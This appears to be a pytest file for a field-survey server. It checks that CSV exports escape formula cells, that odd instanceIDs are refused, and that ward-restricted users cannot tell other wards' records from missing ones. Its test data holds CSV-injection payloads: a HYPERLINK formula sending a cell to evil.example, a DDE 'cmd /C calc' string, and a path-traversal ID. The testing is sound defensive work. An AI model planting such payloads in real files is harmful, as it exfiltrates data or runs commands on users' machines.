"""What leaks without a request (issue 11): CSV exports a spreadsheet would run, instanceIDs of
any shape, answers that tell another ward's submission from a missing one, the deleted list
across wards, special-category answers in the version diff."""

from __future__ import annotations

import csv
import io

import pytest

from server.auth.permissions import SYSTEM
from server.services import app_users, sessions
from tests.support.collect import Collect
from tests.web.conftest import PNG, review_instance

LIST = "/projects/{p}/forms/review/submissions"
FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"bấm")'


def bearer(db, make_user, role="admin", **kw) -> dict:
    email = f"{role}-{len(kw)}@example.org"
    make_user(email, role=role, **kw)
    with db.transaction() as session:
        token = sessions.log_in(session, email, "correct horse battery", None).issued.token
    return {"Authorization": f"Bearer {token}"}


def answered(response) -> str:
    """Status and body, as the caller sees them."""
    return f"{response.status_code} {response.get_data(as_text=True)}"


def cells(response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    return list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))


def test_csv_exports_escape_every_cell_a_spreadsheet_would_run(
    app, db, make_user, live_server, review_form, project
):
    with db.transaction() as session:
        phone = app_users.create_app_user(session, SYSTEM, project.id, "@SUM(1+1)", all_forms=True)
    collect = Collect(phone.server_url(live_server), device_id="-2+3+cmd|' /C calc'!A0")
    xml = review_instance("uuid:c1", ho_ten=FORMULA, ghi_chu="x", ma_xa="00004", name="+x")
    assert collect.submit(xml, {"proof.png": PNG})[-1].status == 201
    headers = bearer(db, make_user)
    client = app.test_client()
    header, row = cells(client.get(f"/v1{LIST.format(p=project.id)}.csv", headers=headers))
    by_name = dict(zip(header, row, strict=True))  # Central's columns (briefcase.js)
    assert by_name["ho_ten"] == "'" + FORMULA
    assert by_name["SubmitterName"] == "'@SUM(1+1)"
    assert by_name["DeviceID"] == "'-2+3+cmd|' /C calc'!A0"
    assert by_name["KEY"] == "uuid:c1"
    assert by_name["ma_xa"] == "00004"
    starts = [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert starts == []
    audit = cells(client.get("/v1/audits.csv", headers=headers))
    assert [c for line in audit for c in line if c[:1] in ("=", "+", "-", "@", "\t", "\r")] == []
    assert any("'@SUM(1+1)" in c for line in audit for c in line)


def test_a_plain_number_is_not_escaped():
    from server.services.exports import safe_cell

    assert [safe_cell(v) for v in ("-3", "+84912345678", "-1.5", 7)] == [
        "-3",
        "+84912345678",
        "-1.5",
        7,
    ]
    assert [safe_cell(v) for v in ("-1+1", "=1", "@x", "\tx", "\rx", "+")] == [
        "'-1+1",
        "'=1",
        "'@x",
        "'\tx",
        "'\rx",
        "'+",
    ]


@pytest.mark.parametrize(
    "instance_id",
    [
        '=HYPERLINK("https://evil.example")',
        "uuid;8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b",
        "uuid:../../etc",
        "uuid:a b",
        "visit-1",
        "uuid:" + "a" * 65,
    ],
)
def test_an_instance_id_without_collects_shape_is_refused(
    app, db, make_user, collect, review_form, project, instance_id
):
    reply = collect.submit(review_instance(instance_id), {"proof.png": PNG})[-1]
    assert reply.status == 400
    assert reply.message == (
        "Mã của phiếu này không phải do ODK Collect tạo, nên phiếu không được nhận. Hãy báo "
        "cán bộ kỹ thuật của chương trình. (400.8)"
    )
    api = app.test_client().post(
        f"/v1/projects/{project.id}/forms/review/submissions",
        data=review_instance(instance_id),
        headers={**bearer(db, make_user), "Content-Type": "application/xml"},
    )
    assert api.status_code == 400
    assert api.json["code"] == 400.8
    assert "instanceID" in api.json["message"]


@pytest.mark.parametrize(
    "instance_id",
    ["uuid:8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b", "8f9a0c2e-1b3d-4e5f-9a7b-6c5d4e3f2a1b"],
)
def test_collects_and_centrals_shapes_are_accepted(collect, review_form, instance_id):
    assert collect.submit(review_instance(instance_id), {"proof.png": PNG})[-1].status == 201


def test_a_deprecated_id_without_collects_shape_is_refused(app_user, live_server, review_form):
    english = Collect(app_user.server_url(live_server), language="en")
    assert english.submit(review_instance("uuid:e1"), {"proof.png": PNG})[-1].status == 201
    edit = review_instance("uuid:e2", deprecated_id="=cmd()")
    reply = english.submit(edit, {"proof.png": PNG})[-1]
    assert reply.status == 400
    assert reply.message.startswith("Unexpected deprecatedID value;")


# --- One 404 for another ward's submission and for none ------------------------------------


@pytest.fixture
def two_wards(collect, review_form):
    for iid, ward in (("uuid:w4", "00004"), ("uuid:w7", "00007")):
        xml = review_instance(iid, ma_xa=ward, name=f"Ở {ward}")
        assert collect.submit(xml, {"proof.png": PNG})[-1].status == 201


def test_the_api_answers_another_wards_submission_as_one_that_does_not_exist(
    app, db, make_user, project, two_wards
):
    headers = bearer(db, make_user, role="supervisor", project_id=project.id, wards=("00004",))
    client = app.test_client()
    base = f"/v1{LIST.format(p=project.id)}"
    assert client.get(f"{base}/uuid:w4", headers=headers).status_code == 200
    for tail, method, body in (
        ("", "get", None),
        (".xml", "get", None),
        ("/attachments", "get", None),
        ("/comments", "get", None),
        ("/attachments/proof.png", "get", None),
        ("", "patch", {"reviewState": "approved"}),
        ("/comments", "post", {"body": "x"}),
    ):
        other, missing = (
            answered(
                getattr(client, method)(f"{base}/{iid}{tail}", headers=headers, json=body)
            ).replace(iid, "ID")  # the id asked, echoed back, tells nothing
            for iid in ("uuid:w7", "uuid:nothing")
        )
        assert other == missing, (tail, method)
        assert other.startswith("404 ")


def test_the_web_ui_answers_another_wards_submission_as_one_that_does_not_exist(
    login_as, project, two_wards
):
    browser = login_as("manager", wards=("00004",))  # a manager may delete, in its wards
    base = LIST.format(p=project.id)
    for tail, data in (
        ("", None),
        ("/attachments/proof.png", None),
        ("/review", {"review_state": "approved"}),
        ("/delete", {}),
    ):
        other, missing = (
            answered(
                browser.get(f"{base}/{iid}{tail}")
                if data is None
                else browser.post(f"{base}/{iid}{tail}", data)
            ).replace(iid, "ID")
            for iid in ("uuid:w7", "uuid:nothing")
        )
        assert other == missing, tail
        assert other.startswith("404 ")


def test_integrity_answers_another_wards_client_deleted_and_never_one_the_phone_made_offline(
    db, make_form, live_server, app_user, collect, project
):
    """Collect asks the integrity URL only about entities it made itself and has not yet seen
    in the list (offline entities: a registration still in the outbox, or waiting for
    approval) and deletes from the phone each one answered `deleted`. So, as Central does
    (getEntitiesState: lib/model/query/entities.js), another ward's client is answered
    `deleted` and an id the server has never received is not answered at all: the phone keeps
    the client it registered and can follow it up."""
    from tests.entities.test_follow_up import REGISTER_MD, VISIT_MD, phone_of, registration

    make_form(REGISTER_MD)
    make_form(VISIT_MD)
    with db.transaction() as session:
        app_users.set_wards(session, SYSTEM, app_user.actor_id, ["00118"])
    mine = "0b5e4a3c-9d2f-4e1a-8b7c-6d5e4f3a2b1c"
    other = "6f2f8e4a-3c2b-4d8e-9a51-0c1b2a3d4e5f"
    offline = "1d2c3b4a-5e6f-4a7b-8c9d-0e1f2a3b4c5d"  # registered on the phone, not yet sent
    collect.submit(registration("uuid:r1", mine, "LAHU1M1990", "00118"))
    other_phone = phone_of(db, live_server, project.id, "00004")
    assert other_phone.submit(registration("uuid:r2", other, "MAHO2F1985", "00004"))[0].status == 201
    url = f"{collect.server_url}/datasets/clients/integrity"
    body = collect.get(f"{url}?id={mine},{other},{offline}").text
    assert f'<entity id="{mine}"><deleted>false</deleted></entity>' in body
    assert f'<entity id="{other}"><deleted>true</deleted></entity>' in body
    assert offline not in body
    assert collect.submit(registration("uuid:r3", offline, "NGVA3M1992", "00118"))[0].status == 201
    body = collect.get(f"{url}?id={offline}").text
    assert f'<entity id="{offline}"><deleted>false</deleted></entity>' in body


def test_the_deleted_list_and_restore_stay_in_the_callers_wards(db, login_as, project, two_wards):
    everyone = login_as("manager")
    base = LIST.format(p=project.id)
    for iid in ("uuid:w4", "uuid:w7"):
        assert everyone.post(f"{base}/{iid}/delete").status_code == 303
    ward = login_as("manager", wards=("00004",))
    page = ward.get(f"{base}/deleted")
    assert page.status_code == 200
    assert "uuid:w4" in page.text
    assert "uuid:w7" not in page.text
    assert "Ở 00007" not in page.text
    assert ward.post(f"{base}/uuid:w7/restore").status_code == 404
    assert ward.post(f"{base}/uuid:w4/restore").status_code in (302, 303)
    assert "uuid:w7" in everyone.get(f"{base}/deleted").text


def test_the_version_history_folds_special_answers_as_the_page_does(
    login_as, collect, review_form, project
):
    assert collect.submit(review_instance("uuid:h1"), {"proof.png": PNG})[-1].status == 201
    edit = review_instance("uuid:h2", deprecated_id="uuid:h1", nhu_cau="mmt", ho_ten="Lê Thị Hoa")
    assert collect.submit(edit, {"proof.png": PNG})[-1].status == 201
    page = login_as("supervisor").get(f"{LIST.format(p=project.id)}/uuid:h1").text
    history = page[page.index('id="history"') :]
    fold = '<details class="reveal"><summary>Thông tin nhạy cảm: bấm để xem</summary>'
    # The needs (special: HIV testing, methadone) changed: both sides folded, as on the page.
    assert f"<td>{fold}Xét nghiệm HIV, Điều trị methadone</details></td>" in history
    assert f"<td>{fold}Điều trị methadone</details></td>" in history
    assert "<td>Xét nghiệm HIV, Điều trị methadone</td>" not in history
    # An answer that is not special is shown as it was.
    assert "<td>Nguyễn Văn Bình</td><td>Lê Thị Hoa</td>" in history


def test_the_entity_list_phones_download_keeps_values_exact(db, make_form, app_user, collect):
    """Collect matches entity values as they are (a choice filter, a lookup): the phone's CSV
    is not a spreadsheet export and is not escaped."""
    from tests.entities.test_follow_up import REGISTER_MD, VISIT_MD, read_csv, registration

    make_form(REGISTER_MD)
    make_form(VISIT_MD)
    with db.transaction() as session:
        app_users.set_wards(session, SYSTEM, app_user.actor_id, ["00118"])
    client = "0b5e4a3c-9d2f-4e1a-8b7c-6d5e4f3a2b1c"
    assert collect.submit(registration("uuid:r1", client, "=1+1", "00118"))[0].status == 201
    listing = {f["formID"]: f for f in collect.form_list()}
    [media] = collect.manifest(listing["tham"]["manifestUrl"])
    [row] = read_csv(collect, media["downloadUrl"])
    assert (row["uic"], row["label"]) == ("=1+1", "=1+1 - 00118")
